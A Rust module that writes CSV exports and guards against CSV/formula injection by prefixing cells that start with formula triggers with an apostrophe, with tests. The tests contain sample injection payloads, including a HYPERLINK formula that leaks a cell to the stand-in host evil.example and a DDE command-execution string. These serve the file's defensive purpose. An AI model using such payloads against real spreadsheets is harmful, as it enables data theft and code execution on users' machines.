//! Writing CSV for people and spreadsheets: RFC 4180 quoting, CRLF line ends, and no
//! formulas. A cell a spreadsheet would run as a formula (starting with `= + - @`, a
//! tab or a CR) leaves with a leading `'`, OWASP's CSV-injection advice; a plain number
//! (an E.164 phone, `-5`, `3.5`) stays as it is. The import takes that `'` off again
//! ([`restore`]), so an export re-imports to the same values.

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` (after any `'`s) starts like a formula and is not a plain number.
fn formula_like(cell: &str) -> bool {
    let rest = cell.trim_start_matches('\'');
    rest.starts_with(TRIGGERS) && !plain_number(rest)
}

/// `[+-]digits[.digits]`: what a spreadsheet reads as a number, never a formula.
fn plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A cell as it goes out: one `'` in front when a spreadsheet would run it.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as it comes back in: the `'` [`neutralise`] added taken off.
pub fn restore(cell: &str) -> Option<&str> {
    cell.strip_prefix('\'').filter(|rest| formula_like(rest))
}

/// Appends one CSV line (cells neutralised, quoted when they contain a delimiter, a
/// quote or a line break; quotes doubled) followed by CRLF.
pub fn push_line<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let f = neutralise(field.as_ref());
        if f.contains([',', ';', '"', '\r', '\n']) {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&f);
        }
    }
    out.push_str("\r\n");
}

/// A CSV file to download: `text/csv; charset=utf-8` as `filename`.
pub fn attachment(body: axum::body::Body, filename: &'static str) -> axum::response::Response {
    use axum::http::header::{HeaderValue, CONTENT_DISPOSITION, CONTENT_TYPE};
    let mut res = axum::response::Response::new(body);
    let headers = res.headers_mut();
    headers.insert(
        CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{filename}\"")) {
        headers.insert(CONTENT_DISPOSITION, v);
    }
    res
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_when_needed() {
        let mut out = String::new();
        push_line(
            &mut out,
            &[
                "+32475123456",
                "said \"no\", twice",
                "a;b",
                "line\nbreak",
                "",
            ],
        );
        assert_eq!(
            out,
            "+32475123456,\"said \"\"no\"\", twice\",\"a;b\",\"line\nbreak\",\r\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        for (cell, out) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd"),
            ("@SUM(1+1)", "'@SUM"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("+32475123456", "+32475123456"),
            ("-5", "-5"),
            ("3.25", "3.25"),
            ("+", "'+"),
            ("'plain", "'plain"),
            ("O'Brien", "O'Brien"),
        ] {
            let n = neutralise(cell);
            assert!(n.starts_with(out), "{cell:?} -> {n:?}");
            assert_eq!(restore(&n).unwrap_or(&n), cell, "{cell:?} comes back");
        }
    }
}
